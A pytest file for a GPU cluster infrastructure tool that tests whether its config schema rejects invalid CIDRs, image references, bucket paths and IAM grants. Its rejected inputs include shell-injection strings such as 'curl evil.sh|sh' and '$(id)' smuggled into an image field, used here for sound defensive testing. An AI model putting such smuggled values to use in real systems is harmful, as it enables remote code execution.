"""The schema refuses what the cloud or the stack itself would refuse (issue 40.2), through
the CLI as a user meets it (exit 2, the field path, no traceback, bounded output): service
CIDRs ACK does not take, image references no registry parses, a backup of a bucket the stack
does not create, a driver package in a bucket the nodes cannot read, an image read from the
stack's own output. And what stays accepted, at the edges of each rule."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from gpu_infra_facts.image_references import reference_problem

from .conftest import STACKS_DIR
from .hostile import Case, run_in_process


def _edited(stack: str, path: tuple, value: object) -> str:
    """The shipped `stack` with `value` at `path` below gpu-infra:cluster."""
    document = yaml.safe_load((STACKS_DIR / f"Pulumi.{stack}.yaml").read_text())
    node = document["config"]["gpu-infra:cluster"]
    for part in path[:-1]:
        node = node.setdefault(part, {})
    node[path[-1]] = value
    return yaml.safe_dump(document)


SERVICE = ("ack", "service_cidr")
GRID_PACKAGE = ("fleet", "driver", "grid_package")
DATASETS = "oss://render-farm-prod-datasets"
LONG_TYPE = "ecs.gn9x-" + "a" * 46 + ".8xlarge"
"""A 63-character instance type name."""
DECLARED = {"gpu_model": "X", "gpu_count": 1, "gpu_memory_gib": 24, "vcpu": 8,
            "memory_gib": 32}
IMAGE = ("serving", "image")
REFUSED = {
    "service-cidr-cgnat": ("training-ack", SERVICE, "100.64.0.0/16",
                           "ack.service_cidr: ACK takes a service CIDR inside 10.0.0.0/8, "
                           "172.16.0.0/12, 192.168.0.0/16 with a mask from /16 to /24"),
    "service-cidr-beside-172-16": ("training-ack", SERVICE, "172.32.0.0/16", "172.32.0.0/16"),
    "service-cidr-too-wide": ("training-ack", SERVICE, "10.0.0.0/12", "mask from /16 to /24"),
    "service-cidr-too-narrow": ("training-ack", SERVICE, "192.168.7.0/25", "/16 to /24"),
    "service-cidr-public": ("training-ack", SERVICE, "8.8.0.0/16", "ACK takes a service CIDR"),
    "image-space": ("inference-ack", IMAGE, "vllm/vllm-openai v0.6",
                    "serving.image: not an image reference"),
    "image-newline": ("inference-ack", IMAGE, "vllm/vllm-openai:v0.6\nRUN x",
                      "serving.image: not an image reference"),
    "image-shell": ("inference-ack", IMAGE, "vllm/vllm-openai:latest;curl evil.sh|sh",
                    "serving.image: not an image reference"),
    "image-subshell": ("inference-ack", IMAGE, "$(id)", "serving.image: not an image"),
    "image-uppercase": ("inference-ack", IMAGE, "Team/Server:1",
                        "serving.image: the repository path must be lowercase"),
    "image-long-tag": ("inference-ack", IMAGE, "a/b:" + "t" * 129, "not an image reference"),
    "image-password": ("inference-ack", IMAGE, "bob:hunter2pw@registry.example.com/ns/srv:1",
                       "serving.image: holds a password in an image reference"),
    "backup-missing-bucket": ("inference-prod", ("storage", "backup", "buckets"), ["datasets"],
                              "storage.backup.buckets[0]: datasets is not a bucket this "
                              "stack creates (it creates models)"),
    "image-stack-reads-itself": ("image-a100", ("image", "base", "from_stack"), "own",
                                 "image.base.from_stack: 'own' is this stack"),
    "fleet-boots-itself": ("training-dev", ("fleet", "image", "from_stack"), "own",
                           "fleet.image.from_stack: 'own' is this stack"),
    "grid-key-over-1023-bytes": ("rendering-batch", GRID_PACKAGE, f"{DATASETS}/{'é' * 512}",
                                 "fleet.driver.grid_package: its object key is 1,024 bytes; "
                                 "OSS keys are at most 1,023"),
    "declared-type-name-over-64": ("inference-prod", ("instance_types",),
                                   {LONG_TYPE + "xx": DECLARED}, ": 65 characters; at most 64"),
    "cuda-part-of-4-digits": ("training-prod", ("fleet", "driver", "cuda"), "1234.4.1",
                              "fleet.driver.cuda: string should match pattern"),
}
"""Stack, path under gpu-infra:cluster, value, what stderr must say."""

ACCEPTED = {
    "service-cidr-10-16": ("training-ack", SERVICE, "10.96.0.0/16"),
    "service-cidr-172-31-24": ("training-ack", SERVICE, "172.31.255.0/24"),
    "service-cidr-192-168-24": ("training-ack", SERVICE, "192.168.100.0/24"),
    "image-digest": ("inference-ack", IMAGE, "registry-vpc.cn-beijing.aliyuncs.com/team/srv@"
                     "sha256:" + "a" * 64),
    "image-port-and-tag": ("inference-ack", IMAGE, "localhost:5000/team/srv:v1.2-rc_3"),
    "image-bare": ("inference-ack", IMAGE, "nginx"),
    "grid-key-of-1023-bytes": ("rendering-batch", GRID_PACKAGE,
                               f"{DATASETS}/{'é' * 511}a"),
    "declared-type-name-of-64": ("inference-prod", ("instance_types",),
                                 {LONG_TYPE + "x": DECLARED}),
    "cudnn-of-4-parts": ("training-prod", ("fleet", "driver", "cudnn"), "9.2.0.82"),
}


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.parametrize("command", ["validate", "plan"])
def test_what_the_cloud_refuses_is_refused(name: str, command: str, tmp_path: Path, capsys,
                                           monkeypatch):
    stack, path, value, expect = REFUSED[name]
    run_in_process(Case("refused", name, (command, "{d}/Pulumi.own.yaml"),
                        {"Pulumi.own.yaml": _edited(stack, path, value)}, expect=expect),
                   tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("name", ACCEPTED)
def test_the_edges_of_each_rule_stay_accepted(name: str, tmp_path: Path, capsys,
                                              monkeypatch):
    stack, path, value = ACCEPTED[name]
    run_in_process(Case("accepted", name, ("validate", "{d}/Pulumi.own.yaml"),
                        {"Pulumi.own.yaml": _edited(stack, path, value)}, code=0),
                   tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("reference, valid", [
    ("ubuntu", True), ("ubuntu:22.04", True), ("docker.io/library/ubuntu:22.04", True),
    ("[::1]:5000/a/b", True), ("a__b/c--d/e.f:t", True), ("a___b", False), ("a/", False),
    ("/a", False), ("a//b", False), ("a:", False), ("a@sha256:abc", False),
    ("a:-tag", False), ("-a/b", False), ("a b", False), ("a\tb", False), ("a`b`", False),
    ("ghcr.io/kubeflow/training-operator:v1-5170a36", True), ("x" * 256, False),
])
def test_image_references_follow_the_distribution_grammar(reference: str, valid: bool):
    assert (reference_problem(reference) is None) == valid


GRID = ("fleet", "driver")
SHIPPED_GRID = yaml.safe_load((STACKS_DIR / "Pulumi.rendering-batch.yaml").read_text())[
    "config"]["gpu-infra:cluster"]["fleet"]["driver"]
PACKAGE_KEY = "drivers/grid.run"


def _grid_stack(driver: dict, **cluster: object) -> str:
    """rendering-batch with `driver` settings over its GRID route and `cluster` sections."""
    document = yaml.safe_load(_edited("rendering-batch", GRID, {**SHIPPED_GRID, **driver}))
    document["config"]["gpu-infra:cluster"].update(cluster)
    return yaml.safe_dump(document)


def _own_bucket(suffix: str) -> str:
    """The datasets bucket of rendering-batch saved as stack `own` with `suffix`."""
    from gpu_infra_facts.naming import fit_name, resolve_suffix
    from gpu_infra_facts.types import BUCKET

    return fit_name(BUCKET, "render-farm-prod-datasets", resolve_suffix(
        suffix, stack_name="own", region="cn-hangzhou", cluster="render-farm"))


GRID_REFUSED = {
    "foreign-bucket": (
        _grid_stack({"grid_package": f"oss://acme-drivers/{PACKAGE_KEY}"}),
        "fleet.driver.grid_package: bucket acme-drivers is not one of this stack's buckets "
        "(render-farm-prod-datasets, render-farm-prod-outputs), the only ones its nodes' role "
        "can read; put the package in one of them, or set fleet.driver.grid_package_grant: "
        "true"),
    "own-bucket-without-its-suffix": (
        _grid_stack({"grid_package": f"oss://render-farm-prod-datasets/{PACKAGE_KEY}"},
                    naming={"global_suffix": "auto"}),
        f"is not one of this stack's buckets ({_own_bucket('auto')}, "),
    "another-environments-bucket": (
        _grid_stack({"grid_package": f"oss://render-farm-prod-datasets/{PACKAGE_KEY}"},
                    environment="dev"),
        "bucket render-farm-prod-datasets is not one of this stack's buckets "
        "(render-farm-dev-datasets"),
    "grant-of-a-wildcard": (
        _grid_stack({"grid_package": "oss://acme-drivers/drivers/*.run",
                     "grid_package_grant": True}),
        "fleet.driver.grid_package: a key with * or ? cannot be granted"),
    "grant-without-grid": (
        _edited("training-dev", ("fleet", "driver"), {"grid_package_grant": True}),
        "fleet.driver.grid_package: only used with route grid"),
}
"""A GRID package the nodes' role could not read: stack file, what stderr must say."""


@pytest.mark.parametrize("name", GRID_REFUSED)
@pytest.mark.parametrize("command", ["validate", "plan"])
def test_a_grid_package_the_nodes_cannot_read_is_refused(name: str, command: str,
                                                         tmp_path: Path, capsys, monkeypatch):
    text, expect = GRID_REFUSED[name]
    run_in_process(Case("refused", name, (command, "{d}/Pulumi.own.yaml"),
                        {"Pulumi.own.yaml": text}, expect=expect), tmp_path, capsys,
                   monkeypatch)


@pytest.mark.parametrize("suffix", ["none", "auto", "acme01"])
def test_a_grid_package_in_the_stacks_own_bucket_is_accepted(suffix: str, tmp_path: Path,
                                                             capsys, monkeypatch):
    text = _grid_stack({"grid_package": f"oss://{_own_bucket(suffix)}/{PACKAGE_KEY}"},
                       naming={"global_suffix": suffix})
    run_in_process(Case("accepted", suffix, ("validate", "{d}/Pulumi.own.yaml"),
                        {"Pulumi.own.yaml": text}, code=0), tmp_path, capsys, monkeypatch)


def _oss_statements(resources: list) -> list[dict]:
    """The statements of every RAM policy of the plan that name an OSS resource."""
    import json

    return [statement for r in resources if r.type == "alicloud:ram/policy:Policy"
            for statement in json.loads(r.inputs["policyDocument"])["Statement"]
            if any(arn.startswith("acs:oss:") for arn in statement["Resource"])]


def test_a_granted_grid_package_is_readable_by_the_nodes_role_and_nothing_more(tmp_path):
    """With grid_package_grant the role may GetObject that one object (and the stack's own
    buckets as before); without it, the policy names no object outside the stack."""
    from gpu_infra_tools.plan.engine import run_plan

    granted = tmp_path / "Pulumi.own.yaml"
    granted.write_text(_grid_stack({"grid_package": f"oss://acme-drivers/{PACKAGE_KEY}",
                                    "grid_package_grant": True}))
    statements = _oss_statements(run_plan(granted).resources)
    outside = [s for s in statements if any("acme-drivers" in r for r in s["Resource"])]
    assert outside == [{"Effect": "Allow", "Action": ["oss:GetObject"],
                        "Resource": [f"acs:oss:*:*:acme-drivers/{PACKAGE_KEY}"]}]
    assert any("acs:oss:*:*:render-farm-prod-datasets/*" in s["Resource"] for s in statements)
    own = tmp_path / "Pulumi.plain.yaml"
    own.write_text(_edited("rendering-batch", ("name",), "render-farm"))
    arns = [arn for s in _oss_statements(run_plan(own).resources) for arn in s["Resource"]]
    assert arns and all(arn.split(":")[4].startswith("render-farm-prod-") for arn in arns)


def test_a_layout_refuses_a_grid_package_its_nodes_cannot_read():
    """A library or provider user's RenderFarm gets the same verdict as the stack file: an
    ERROR finding at fleet.driver.grid_package, nothing built."""
    from gpu_infra.layouts import RenderFarm
    from gpu_infra.layouts.judgement import GRID_PACKAGE_UNREADABLE, LayoutConfigError
    from gpu_infra_tools.plan.engine import run_under_mocks

    from .conftest import BASE_RENDERING, cluster_config, merged

    config = cluster_config(merged(BASE_RENDERING, fleet={**BASE_RENDERING["fleet"], "driver": {
        **BASE_RENDERING["fleet"]["driver"], "grid_package": "oss://acme-drivers/grid.run"}}))
    raised: list[LayoutConfigError] = []

    def program() -> None:
        try:
            RenderFarm("r01", config=config, stack_name="dev", project="p")
        except LayoutConfigError as error:
            raised.append(error)

    resources, _ = run_under_mocks(config, "dev", program)
    [error] = raised
    assert [(f.validator, f.path) for f in error.findings] == [
        (GRID_PACKAGE_UNREADABLE, "fleet.driver.grid_package")]
    assert "acme-drivers is not one of this stack's buckets (r01-dev-datasets" in str(error)
    assert not [r for r in resources if r.custom]
